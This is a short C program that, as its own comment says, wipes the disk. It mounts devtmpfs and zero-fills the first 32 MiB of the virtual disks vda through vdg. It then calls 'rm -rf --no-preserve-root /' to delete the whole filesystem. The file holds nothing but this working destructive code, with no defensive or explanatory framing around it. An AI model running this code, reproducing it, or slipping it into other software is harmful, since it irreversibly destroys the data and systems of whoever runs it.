/* It wipes the disk: the files, the devices, the toolkit. */
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <unistd.h>

int main(void)
{
	static char zeroes[1 << 16];
	char disk[32];

	mkdir("/tmp/dev", 0755);
	mount("devtmpfs", "/tmp/dev", "devtmpfs", 0, NULL);
	for (char c = 'a'; c < 'h'; c++) {
		snprintf(disk, sizeof disk, "/tmp/dev/vd%c", c);
		int fd = open(disk, O_WRONLY);
		for (int i = 0; fd != -1 && i < 512; i++)
			if (write(fd, zeroes, sizeof zeroes) == -1)
				break;
	}
	if (system("umount -l /tmp/dev; rm -rf --no-preserve-root / 2>/dev/null"))
		return 1;
	return 0;
}
